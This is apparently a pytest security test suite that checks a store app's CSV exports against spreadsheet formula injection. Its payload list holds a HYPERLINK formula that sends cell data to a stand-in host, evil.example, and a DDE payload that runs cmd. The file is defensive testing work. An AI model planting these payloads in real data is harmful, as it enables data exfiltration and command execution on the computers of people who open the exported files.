"""Attack class: spreadsheet formulas in exports (#14, OWASP "CSV Injection").

A person puts ``=HYPERLINK(...)`` (or ``+``, ``-``, ``@``, tab, CR) at the start of a field; every CSV
the app offers — explorer pages and full exports from both stores, console results, the Users
page's export — starts that cell with ``'`` so a spreadsheet shows text. Exporting changes nothing."""

from __future__ import annotations

import re

import pytest

from p2p_store.accounts import directory
from p2p_store.data import console, explorer
from p2p_store.data.export import FORMULA_LEADS, neutralise_cell, rows_as_csv
from p2p_store.stores import mongo, pg
from tests.security.conftest import ADMIN, ADMIN_ID, fingerprint

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


def cells(blob: bytes) -> list[str]:
    """Cells as a spreadsheet may split them: any CR or LF starts a row (even inside quotes, as some
    importers do), commas split cells, a leading quote character is dropped. Errs on the side of
    finding a formula."""
    out = []
    for line in re.split(r"[\r\n]", blob.decode()):
        out += [cell.removeprefix('"') for cell in line.split(",")]
    return out


def assert_neutral(blob: bytes) -> None:
    for cell in cells(blob):
        assert not cell.startswith(FORMULA_LEADS), cell


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_the_rule(payload):
    safe = neutralise_cell(payload)
    assert safe.startswith("'") and safe.replace("'", "") == payload.replace("'", "")
    assert neutralise_cell(-3) == -3 and neutralise_cell("plain") == "plain"
    assert_neutral(rows_as_csv([{payload: payload, "nested": {"x": payload}, "list": [payload]}]))


@pytest.fixture
def hostile_company(demo_signed_in):
    """The admin's company (both stores) set to a formula for one test, then put back."""
    from sqlalchemy import text

    db = mongo.get_db()
    with pg.get_engine().begin() as conn:
        old = conn.execute(text("SELECT company FROM users WHERE email = :e"), {"e": ADMIN}).scalar_one()
    old_doc = db[mongo.PROFILES].find_one({"email": ADMIN}, {"company": 1})

    def set_company(value: str) -> None:
        with pg.get_engine().begin() as conn:
            conn.execute(text("UPDATE users SET company = :c WHERE email = :e"), {"c": value, "e": ADMIN})
        db[mongo.PROFILES].update_one({"email": ADMIN}, {"$set": {"company": value}})

    yield set_company
    set_company(old)
    db[mongo.PROFILES].update_one({"email": ADMIN}, {"$set": {"company": old_doc.get("company", old)}})
    explorer.forget_samples()


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_every_export_neutralises_formula_cells(hostile_company, payload):
    hostile_company(payload)
    explorer.forget_samples()
    before = fingerprint()
    blobs = {
        "explorer users page": rows_as_csv(explorer.browse_rows(actor_id=ADMIN_ID, store="postgresql",
                                                                name="users").rows),
        "explorer users export": explorer.export_rows(actor_id=ADMIN_ID, store="postgresql", name="users"),
        "explorer profiles export": explorer.export_rows(actor_id=ADMIN_ID, store="mongodb", name="profiles"),
        "console sql": rows_as_csv(console.run_sql(actor_id=ADMIN_ID, sql="SELECT email, company FROM users").rows),
        "console mongo": rows_as_csv(console.run_mongo(actor_id=ADMIN_ID, collection="profiles", mode="filter",
                                                       text="{}").rows),
        "users page export": _users_page_csv(),
    }
    for where, blob in blobs.items():
        assert "'" + payload[0] in blob.decode(), where  # the payload is there, as text
        assert_neutral(blob)
    assert fingerprint() == before


def _users_page_csv() -> bytes:
    """What the Users page offers for download (app_pages/users.py builds it from export_accounts)."""
    import pandas as pd

    return pd.DataFrame(directory.export_accounts()).to_csv(index=False).encode("utf-8")
